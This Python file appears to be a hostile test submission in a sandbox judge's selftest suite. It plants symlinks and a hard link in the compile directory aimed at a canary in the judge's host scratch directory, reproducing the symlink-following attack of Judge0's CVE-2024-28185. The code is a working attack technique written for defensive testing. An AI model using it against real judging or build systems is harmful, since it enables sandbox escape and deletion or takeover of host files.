# py_compile.py - runs at COMPILE time (see compile_dir_fill/py_compile.py
# for how).
#
# Attack: links planted in the compile directory for the judge's own,
# privileged code to follow when it handles that directory afterwards
# (copying the program out, chowning it, cleaning up): Judge0's
# CVE-2024-28185.  The compile log's path (/proc/self/fd/1) names the
# judge's scratch directory on the host, so the links can aim at it:
#   victim -> <scratch>/canary      a file the judge owns
#   scratch -> <scratch>            a directory: a cleanup that follows it
#                                   deletes the judge's files
#   a.out -> <scratch>/canary       where a compiled binary is expected
#   hard                            a hard link to the canary (the kernel
#                                   refuses it across mounts)
# `arbiter selftest` puts a canary file at <scratch>/canary and checks it
# is intact after the submission; the run (main.py) fails if the hard
# link was made.
import os

log = os.readlink("/proc/self/fd/1")
scratch = os.path.dirname(os.path.dirname(log))
canary = os.path.join(scratch, "canary")
for name, target in (("victim", canary), ("scratch", scratch), ("a.out", canary)):
    try:
        os.symlink(target, "/box/" + name)
    except OSError:
        pass
try:
    os.link(canary, "/box/hard")
except OSError:
    pass
